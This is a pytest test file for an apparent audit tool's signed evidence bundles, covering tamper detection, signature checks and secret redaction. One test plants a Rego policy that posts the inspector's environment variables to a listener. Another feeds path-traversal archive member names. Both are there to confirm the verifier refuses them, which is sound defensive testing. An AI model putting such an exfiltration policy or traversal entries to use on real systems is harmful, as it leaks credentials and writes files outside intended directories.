"""An upper-level inspector receives an evidence bundle and checks it offline, months later.

The bundle comes from a real audit (configuration backups, so no network is needed); verification starts its
own OPA and decides the captured input again. Any flipped byte, any changed verdict, a wrong key: named."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import shutil
import tarfile

import pytest

from checker import evidence, signing
from tests.conftest import ROOT, run_zicha

FIX = ROOT / "tests" / "fixtures" / "configs"


@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    d = tmp_path_factory.mktemp("keys")
    p = run_zicha("keygen", "--out", str(d))
    assert p.returncode == 0, p.stderr
    return d / "zicha-signing.key", d / "zicha-signing.pub"


@pytest.fixture(scope="module")
def bundle(tmp_path_factory, keys):
    snap = tmp_path_factory.mktemp("snap")
    (snap / "configs").mkdir()
    for cfg in ("huawei_vrp/sw-floor3-noncompliant.cfg", "h3c_comware/sw-office-compliant.cfg",
                "huawei_usg/fw-boundary-noncompliant.cfg"):
        shutil.copy(FIX / cfg, snap / "configs")
    (snap / "attachments" / "SECURITY-LEADING-GROUP").mkdir(parents=True)
    (snap / "attachments" / "SECURITY-LEADING-GROUP" / "领导小组成立文件.txt").write_text("关于成立网络安全领导小组的通知\n")
    out = tmp_path_factory.mktemp("out") / "run"
    p = run_zicha("audit", "--snapshot", str(snap), "-o", str(out), "--sign-key", str(keys[0]), "--format", "json")
    assert p.returncode == 1, p.stderr
    [b] = list(out.glob("evidence-*.tar.gz"))
    return b


def members(path):
    with tarfile.open(path, "r:gz") as tar:
        return {m.name: tar.extractfile(m).read() for m in tar.getmembers()}


def rewrite(path, files):
    """A bundle file holding exactly these members (re-packed after a test edits them); returns its path."""
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", mtime=0) as gz, tarfile.open(fileobj=gz, mode="w") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    path.write_bytes(buf.getvalue())
    return path


def test_the_bundle_holds_what_an_inspector_needs(bundle, keys):
    files = members(bundle)
    manifest = json.loads(files["manifest.json"])
    assert {"results.json", "input.json", "data.json", "inventory.json", "run.json", "policies/main.rego",
            "policies/clauses.yaml", "policies/lib/result.rego"} <= set(files)
    assert any(n.startswith("facts/") for n in files) and any(n.startswith("raw/") for n in files)
    assert not any(n.endswith("_test.rego") for n in files)
    assert "attachments/SECURITY-LEADING-GROUP/领导小组成立文件.txt" in files
    assert manifest["signature"]["algorithm"] == "ed25519" and "manifest.sig" in files
    for name, meta in manifest["files"].items():
        assert hashlib.sha256(files[name]).hexdigest() == meta["sha256"]
    run = json.loads(files["run.json"])["run"]
    assert run["user"] and run["controller"] and run["hosts_attempted"] and run["opa_version"]
    # the private key never enters the bundle
    key_bytes = keys[0].read_bytes()
    assert not any(key_bytes.strip()[30:80] in data for data in files.values())


def test_an_untouched_bundle_verifies(bundle, keys):
    p = run_zicha("verify", str(bundle), "--pubkey", str(keys[1]))
    assert p.returncode == 0, p.stdout + p.stderr
    assert "【通过】" in p.stdout and "PASSED" in p.stdout
    assert "签名有效" in p.stdout and "与包内结果完全一致" in p.stdout


@pytest.mark.parametrize("victim", ["results.json", "policies/main.rego", "facts/sw-floor3-noncompliant.json",
                                    "input.json", "manifest.json"])
def test_one_flipped_byte_anywhere_is_named(bundle, keys, tmp_path, victim):
    files = members(bundle)
    data = bytearray(files[victim])
    data[len(data) // 2] ^= 0x01
    files[victim] = bytes(data)
    bad = tmp_path / bundle.name
    rewrite(bad, files)
    p = run_zicha("verify", str(bad), "--pubkey", str(keys[1]))
    assert p.returncode != 0
    if victim == "manifest.json":
        assert "签名无效" in p.stdout or "manifest.json: not JSON" in p.stderr
    else:
        assert f"{victim}: sha256 differs from the manifest" in p.stdout


def test_a_changed_verdict_is_named_even_with_a_rebuilt_manifest(bundle, keys, tmp_path):
    """Someone turns a fail into a pass and recomputes the manifest: the signature no longer holds, and deciding
    the captured input again names the result."""
    files = members(bundle)
    doc = json.loads(files["results.json"])
    victim = next(r for r in doc["results"] if r["status"] == "fail")
    victim["status"] = "pass"
    files["results.json"] = json.dumps(doc, ensure_ascii=False).encode()
    manifest = json.loads(files["manifest.json"])
    manifest["files"]["results.json"]["sha256"] = hashlib.sha256(files["results.json"]).hexdigest()
    files["manifest.json"] = json.dumps(manifest).encode()
    bad = tmp_path / bundle.name
    rewrite(bad, files)
    p = run_zicha("verify", str(bad), "--pubkey", str(keys[1]))
    assert p.returncode == 1
    assert "签名无效" in p.stdout
    assert f"{victim['host']} / {victim['rule']}: status pass in the bundle, fail decided again" in p.stdout


def test_a_stranger_s_key_does_not_verify(bundle, tmp_path):
    _, other = signing.keygen(tmp_path, "ed25519", "stranger")
    p = run_zicha("verify", str(bundle), "--pubkey", str(other))
    assert p.returncode == 1 and "签名无效" in p.stdout


def test_without_a_public_key_the_signature_is_not_taken_on_trust(bundle):
    p = run_zicha("verify", str(bundle))
    assert p.returncode == 1 and "未提供公钥，签名未核验" in p.stdout


def test_sm2_with_sm3_signs_and_verifies(tmp_path):
    priv, pub = signing.keygen(tmp_path, "sm2-sm3")
    algorithm, public, sig = signing.sign(b"manifest bytes", priv)
    assert algorithm == "sm2-sm3" and len(sig) == 64
    key = signing.load_public(pub)
    assert key.fingerprint == public.fingerprint
    assert signing.verify(b"manifest bytes", sig, key)
    assert not signing.verify(b"manifest bytes!", sig, key)
    assert not signing.verify(b"manifest bytes", sig + b"\0junk", key)  # only r || s, nothing after
    n = int("FFFFFFFEFFFFFFFFFFFFFFFFFFFFFFFF7203DF6B21C6052B53BBF40939D54123", 16)
    r, s_ = int.from_bytes(sig[:32], "big"), int.from_bytes(sig[32:], "big")
    if r + n < 2 ** 256:  # the same r modulo n, out of range
        assert not signing.verify(b"manifest bytes", (r + n).to_bytes(32, "big") + s_.to_bytes(32, "big"), key)


def test_sm2_keys_whose_public_point_starts_with_04_sign_and_verify(tmp_path):
    """gmssl strips a leading "04" (and every 0 and 4 after it) from a public key it is given: one key in 256."""
    from gmssl import sm2

    g = sm2.default_ecc_table["g"]
    d = next(d for d in range(1, 10_000) if sm2.CryptSM2(private_key="", public_key="")._kg(d, g).startswith("04"))
    private_hex = f"{d:064x}"
    public = bytes.fromhex(sm2.CryptSM2(private_key=private_hex, public_key="")._kg(d, g))
    (tmp_path / "k.key").write_bytes(signing._armour(signing._SM2_PRIV, bytes.fromhex(private_hex) + public))
    (tmp_path / "k.pub").write_bytes(signing._armour(signing._SM2_PUB, public))
    algorithm, key, sig = signing.sign(b"manifest bytes", tmp_path / "k.key")
    assert algorithm == "sm2-sm3" and key.raw == public
    assert signing.verify(b"manifest bytes", sig, signing.load_public(tmp_path / "k.pub"))


def test_keygen_never_overwrites_a_private_key(keys):
    p = run_zicha("keygen", "--out", str(keys[0].parent))
    assert p.returncode == 2 and "will not overwrite a private key" in p.stderr


def test_keygen_never_overwrites_a_public_key_the_inspectors_hold(tmp_path):
    (tmp_path / "zicha-signing.pub").write_text("the key the inspectors were given\n")
    p = run_zicha("keygen", "--out", str(tmp_path))
    assert p.returncode == 2 and "will not overwrite a public key" in p.stderr
    assert not (tmp_path / "zicha-signing.key").exists()


def test_a_member_that_escapes_the_bundle_is_refused_before_anything_is_written(bundle, keys, tmp_path):
    target = tmp_path / "escaped.rego"
    for name in (f"policies/{target}", f"policies//{target}", "policies/./x.rego", "policies/", "./results.json",
                 str(target), "../../escaped.rego", "policies/../../escaped.rego",
                 "facts/../../escaped.json"):
        files = members(bundle)
        files[name] = b"package escaped\n"
        bad = tmp_path / "bad.tar.gz"
        rewrite(bad, files)
        p = run_zicha("verify", str(bad), "--pubkey", str(keys[1]))
        assert p.returncode == 2 and "unexpected member" in p.stderr, (name, p.stderr)
        assert not target.exists()


def test_the_bundle_s_policies_cannot_reach_the_network_or_the_environment(bundle, keys, tmp_path):
    """A tampered policy that would post the inspector's environment somewhere is refused, not run."""
    import http.server
    import threading

    heard = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_POST(self):  # noqa: N802
            heard.append(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
            self.send_response(200)
            self.end_headers()

        def log_message(self, *a):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        files = members(bundle)
        files["policies/lib/leak.rego"] = (
            "package zicha.lib.leak\n\n"
            f'sent := http.send({{"method": "post", "url": "http://127.0.0.1:{server.server_port}/", '
            '"body": opa.runtime().env})\n').encode()
        bad = tmp_path / bundle.name
        rewrite(bad, files)
        p = run_zicha("verify", str(bad), "--pubkey", str(keys[1]), "--bundle-policies",
                      env={"INSPECTOR_TOKEN": "s3cret-token"})
    finally:
        server.shutdown()
    assert p.returncode == 1
    assert "policies/lib/leak.rego: in the bundle but not in the manifest" in p.stdout
    assert "cannot decide again" in p.stdout and "undefined function http.send" in p.stdout
    assert heard == []


def forge(bundle, key, change):
    """What a unit could do with its own key: change the policies, decide the captured input with them, and sign
    a manifest that matches. Every hash and the signature are then valid."""
    from checker import evaluate
    from checker.evidence.bundle import _json, policy_digest
    from checker.report import jsonout
    from checker.models import AuditReport, RunInfo

    files = members(bundle)
    change(files)
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as tmp:
        pdir = Path(tmp)
        for name, body in files.items():
            if name.startswith("policies/") and name.endswith(".rego"):
                (pdir / name[9:]).parent.mkdir(parents=True, exist_ok=True)
                (pdir / name[9:]).write_bytes(body)
        doc = json.loads(files["input.json"])
        with evaluate.OpaServer() as server, evaluate.Evaluator(server.url) as ev:
            ev.load(json.loads(files["data.json"]), policy_dir=pdir)
            decision = ev.decide(doc)
        results = evaluate.complete(list(doc["hosts"]), decision, evaluate.rule_ids(pdir))
    old = json.loads(files["results.json"])
    from checker.models import Result

    kept = [Result.from_json(r) for r in old["results"] if r.get("kind") == "attestation"]  # the unit's own
    files["results.json"] = _json(jsonout.document(AuditReport(RunInfo.from_json(old["run"]), decision.rules,
                                                                results + kept)))
    files.pop("manifest.sig")
    manifest = json.loads(files.pop("manifest.json"))
    manifest["files"] = {n: {"sha256": hashlib.sha256(b).hexdigest(), "size": len(b)} for n, b in files.items()}
    manifest["policy_digest"] = policy_digest(files)
    files["manifest.json"] = _json(manifest)
    files["manifest.sig"] = signing.sign(files["manifest.json"], key)[2]
    return files


def _gut_weak_passwords(files):
    name = "policies/rules/no_weak_password/no_weak_password.rego"
    text = files[name].decode()
    files[name] = text.replace("applicable contains name if {", "applicable contains name if {\n\tfalse", 1).encode()


def test_a_report_is_not_written_from_an_altered_bundle(bundle, tmp_path):
    files = members(bundle)
    doc = json.loads(files["results.json"])
    doc["results"] = [dict(r, status="pass") for r in doc["results"]]
    files["results.json"] = json.dumps(doc).encode()
    bad = tmp_path / bundle.name
    rewrite(bad, files)
    p = run_zicha("report", str(bad), "--out", str(tmp_path / "r"), "--format", "md")
    assert p.returncode == 2 and "results.json: sha256 differs" in p.stderr and "zicha verify" in p.stderr
    assert not (tmp_path / "r" / "report.md").exists()


@pytest.mark.parametrize("change", ["result without host", "manifest a list", "bare attachment"])
def test_malformed_bundles_are_named_not_tracebacks(bundle, keys, tmp_path, change):
    files = members(bundle)
    if change == "result without host":
        doc = json.loads(files["results.json"])
        del doc["results"][0]["host"]
        files["results.json"] = json.dumps(doc).encode()
    elif change == "manifest a list":
        files["manifest.json"] = b"[]"
    else:
        files["attachments/loose.txt"] = b"x"
    bad = tmp_path / bundle.name
    rewrite(bad, files)
    for cmd in (["verify", str(bad), "--pubkey", str(keys[1])], ["report", str(bad), "--out", str(tmp_path)]):
        p = run_zicha(*cmd)
        assert p.returncode in (1, 2) and "Traceback" not in p.stderr, (cmd, p.stderr)
        assert p.stdout.strip() or p.stderr.strip()


def test_the_bundle_keeps_the_exact_data_and_no_weak_password_list(bundle):
    files = members(bundle)
    data = json.loads(files["data.json"])
    assert "weak_passwords" not in data["params"] and "[redacted]" not in files["data.json"].decode()
    assert "Admin@123" not in b"".join(files.values()).decode("utf-8", "replace")


def test_redaction_catches_hashes_and_private_keys():
    counter = [0]
    doc = {"ok": "set", "password": "set", "ansible_password": "hunter22", "password_file": "/etc/x.pass",
           "note": "copied $6$saltsalt$0123456789abcdef/ here",
           "key": "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----"}
    out = evidence.redact(doc, counter)
    assert out["ansible_password"] == "[redacted]" and out["password"] == "set" and out["password_file"] == "/etc/x.pass"
    assert "$6$" not in out["note"] and "PRIVATE KEY" not in out["key"].replace("[redacted private key]", "")
    assert counter[0] == 3


@pytest.mark.parametrize("secret", [
    "$6$rounds=656000$saltsaltsalt$0123456789abcdefABCDEF/.",     # sha512crypt with rounds
    "$9$nhEmQVczB7dQTB$V0nkYTvZc/YYsuI9Q2Xf0r4q2GdPM2bFcw4VMXw4cA",  # Cisco type 9 (scrypt)
    "$8$dsYGNam3K1SIJO$7nv/35M/qr6t.dVc7UY9zrJDWRVqncHub1PE9UlMQFs",  # Cisco type 8 (PBKDF2)
    "$argon2id$v=19$m=65536,t=3,p=4$c2FsdHNhbHQ$ZGlnZXN0ZGlnZXN0",
    "$1a$K%cAh3qO-F$wA%)2f*e=VXM{(e\\*,|\"O+zbdjrH3iIZW:Q#:]'/q+=$",  # Huawei irreversible-cipher
    "%^%#wQ8sQ/Z|;M6(!H8>&{`>P=2Mr5,d%^%#",                          # Huawei cipher envelope
    "@%@%9E8H:Vd7+Ktk6DO2Iz!.1$y|@%@%",                              # USG
    "$h$6$Qw4SVhUNvYZbVFXS$pBLL6vEfSx8jZn5+5PzGaPvU2Vqf6yfMhq8oq6lcyTCMtN/T8W7lFPLZaCbJCyc2TUaCxB4Hdp8Uw==",
])
def test_redaction_knows_the_hash_and_cipher_forms_of_hosts_and_devices(secret):
    counter = [0]
    out = evidence.redact({"note": f"line: {secret} end"}, counter)
    assert counter[0] == 1 and secret not in out["note"] and out["note"].endswith(" end"), out


def test_redaction_takes_the_password_out_of_urls():
    counter = [0]
    out = evidence.redact({"repo": "rest:https://backup:Fin2026@10.20.0.9:8000/fin", "plain": "sftp:bk@nas:/srv/restic"},
                          counter)
    assert out == {"repo": "rest:https://backup:[redacted]@10.20.0.9:8000/fin", "plain": "sftp:bk@nas:/srv/restic"}
    assert counter[0] == 1


def test_redaction_knows_key_settings_by_name():
    counter = [0]
    doc = {"psk": "ipsec-shared", "tacacs_key": "tk1", "pre_shared_key": "psk2", "public_key": "AAAAC3Nz",
           "key_fingerprint": "ab:cd", "share_key": "3f2a"}
    out = evidence.redact(doc, counter)
    assert [k for k, v in out.items() if v == "[redacted]"] == ["psk", "tacacs_key", "pre_shared_key"]


def test_redaction_keeps_evidence_whose_names_only_sound_secret():
    counter = [0]
    doc = {"sshd": {"password_authentication": "no", "permit_empty_passwords": "no"},
           "observed": {"with_password": ["root", "finance"], "zones": {"secret": {"trust": 4}}},
           "accounts": [{"name": "root", "password": "set"}, {"name": "guest", "password": "empty"}],
           "ansible_become_pass": "hunter22", "snmp_community": "public", "password": "hunter2"}
    out = evidence.redact(doc, counter)
    assert out["sshd"] == doc["sshd"] and out["observed"] == doc["observed"] and out["accounts"] == doc["accounts"]
    assert out["ansible_become_pass"] == out["snmp_community"] == out["password"] == "[redacted]" and counter[0] == 3


def test_redaction_keeps_hosts_whose_names_sound_secret():
    counter = [0]
    doc = {"hosts": {"pc-secret-1": {"name": "pc-secret-1", "vars": {"snmp_community": "public"}}}}
    out = evidence.redact(doc, counter)
    assert out["hosts"]["pc-secret-1"]["name"] == "pc-secret-1"
    assert out["hosts"]["pc-secret-1"]["vars"]["snmp_community"] == "[redacted]" and counter[0] == 1


def test_a_mapping_that_recurs_is_redacted_once_and_counted_each_time():
    from checker.evidence.redact import redact

    facts = {"snmp": {"community": "public-secret"}, "note": "$6$rounds=5000$abcdefgh$" + "x" * 40}
    doc = {"input": {"hosts": {"a": {"facts": facts}}}}
    counted: list[int] = [0]
    memo: dict = {}
    first = redact(doc, counted, memo)
    again = redact(facts, counted, memo)
    assert again is first["input"]["hosts"]["a"]["facts"]  # not walked again
    assert counted[0] == 4  # the community and the hash, in both places
    assert "secret" not in str(again) and "$6$" not in str(again)
    # a temporary mapping redacted and dropped cannot hand its result to another that takes its id
    for i in range(200):
        out = redact({"k": f"v{i}"}, [0], memo)
        assert out == {"k": f"v{i}"}
